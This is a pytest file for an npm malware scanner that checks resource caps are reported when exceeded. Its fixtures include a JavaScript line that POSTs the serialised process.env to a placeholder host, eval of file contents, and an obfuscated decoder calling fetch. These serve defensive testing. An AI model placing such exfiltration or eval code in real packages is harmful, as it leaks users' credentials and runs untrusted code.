"""Every cap of the settings is met by a test, and what goes over one is told, never called clean and whole."""

from __future__ import annotations

import re
from pathlib import Path

import msgspec
import pytest

from npmguard.api import inspect
from npmguard.config import Cache, Config, Feed, Limits
from npmguard.detect.rule import Ruleset, load_ruleset
from npmguard.errors import IndicatorError
from npmguard.intel.indicators import load_indicators
from npmguard.javascript.facts import extract_facts
from npmguard.model import TarballAnalysis
from npmguard.worker import analyse_tarball
from tests.unit.javascript.test_obfuscation import DECODER, TABLE
from tests.unit.test_worker_sandbox import tarball

TESTS = Path(__file__).parents[1]
CODE = b"const a = require('fs'); eval(a.readFileSync(`${b}/c`) + d);\n"
DECODED = (
    TABLE + DECODER + "(function(f){var a=f();while(a[0]!=='no')a.push(a.shift())}(t));fetch(d(4));"
).encode()
FLOW = b"const k = JSON.stringify(process.env); fetch('https://x.invalid', {method: 'POST', body: k});\n"


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return load_ruleset(())


def read(ruleset: Ruleset, files: dict[str, bytes], cap: str, value: float) -> TarballAnalysis:
    limits = msgspec.structs.replace(Limits(), **{cap: value})
    return analyse_tarball(tarball(files), ruleset, limits, prefilter=False)


@pytest.mark.parametrize(
    ("cap", "value", "files"),
    [
        ("tarball_bytes", 50, {"a.js": CODE}),
        ("unpacked_bytes", 2000, {"a.js": CODE}),
        ("file_count", 1, {"a.js": CODE}),
        ("path_length", 20, {"a-long-name-of-a-file.js": CODE}),
        ("path_bytes", 20, {"a.js": CODE}),
        ("source_bytes", 50, {"a.js": CODE * 50}),
        ("kept_bytes", 50, {"a.js": CODE}),
        ("interpreted_steps", 20_000, {"a.js": DECODED}),
        ("interpreted_units", 1000, {"a.js": DECODED}),
        ("analysis_seconds", 0.0, {"a.js": CODE}),
    ],
)
def test_over_a_cap_a_package_is_unverified_and_the_cap_is_named(
    ruleset: Ruleset, cap: str, value: float, files: dict[str, bytes]
) -> None:
    told = read(ruleset, files, cap, value).unverified
    assert told is not None
    assert cap.replace("_", "-") in told or "interpreted-steps or -units" in told


@pytest.mark.parametrize(
    ("cap", "value", "files"),
    [
        ("fold_steps", 10, {"a.js": b"x('a' + 'b' + 'c');\n" * 50}),
        ("string_bytes", 10, {"a.js": b"x('abcdefghi' + 'jkl' + 'm');\n"}),
        ("flow_steps", 1, {"a.js": FLOW}),
    ],
)
def test_over_a_cap_on_the_work_in_one_file_the_file_is_told_as_read_in_part(
    ruleset: Ruleset, cap: str, value: int, files: dict[str, bytes]
) -> None:
    assert read(ruleset, files, cap, int(getattr(Limits(), cap))).partial == ()
    ((path, told),) = read(ruleset, files, cap, value).partial
    assert path == "a.js"
    assert cap.replace("_", "-") in told


@pytest.mark.parametrize(
    ("cap", "value", "code"),
    [
        ("layer_depth", 1, b"eval(\"eval('fetch(1)')\")"),
        ("layer_bytes", 20, b"eval('fetch(1)        ')"),
        ("interpreted_depth", 40, b"function d(n){return n?d(n-1):'ht'+'tp'}require(d(20))"),
    ],
)
def test_what_lies_deeper_than_a_cap_is_told_as_undecodable_or_stays_a_call(
    cap: str, value: int, code: bytes
) -> None:
    whole = extract_facts("a.js", code, Limits())
    capped = extract_facts("a.js", code, msgspec.structs.replace(Limits(), **{cap: value}))
    assert {fact.name for fact in whole.facts} != {fact.name for fact in capped.facts}


def test_a_file_of_indicators_over_its_cap_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "indicators.txt"
    path.write_text("bad.example\n" * 100)
    assert len(load_indicators(path, Limits().indicator_bytes)) == 1
    with pytest.raises(IndicatorError, match=re.escape(str(path))):
        load_indicators(path, 1000)


@pytest.mark.parametrize("cap", msgspec.structs.asdict(Limits()))
def test_every_cap_is_set_small_by_a_test(cap: str) -> None:
    """By its field or by its key; a cap that nobody meets is a promise that nobody holds."""
    setting = re.compile(rf"""\b{cap}["']?[=,:]|{cap.replace("_", "-")} = |\.{cap}\b""")
    others = (path for path in sorted(TESTS.rglob("*.py")) if path.name != "test_config.py")
    assert any(setting.search(path.read_text(encoding="utf-8")) for path in others)


def test_what_a_cap_cut_short_is_told_in_the_report(tmp_path: Path) -> None:
    package = tmp_path / "package"
    package.mkdir()
    (package / "package.json").write_text('{"name": "a", "version": "1.0.0"}')
    (package / "a.js").write_bytes(FLOW)
    config = Config(
        limits=Limits(flow_steps=1),
        cache=Cache(directory=str(tmp_path / "cache")),
        feed=Feed(online=False, required=False),
    )
    (report,) = inspect(str(package), config=config, offline=True).packages
    assert [note for note in report.notes if "a.js" in note and "flow-steps" in note]
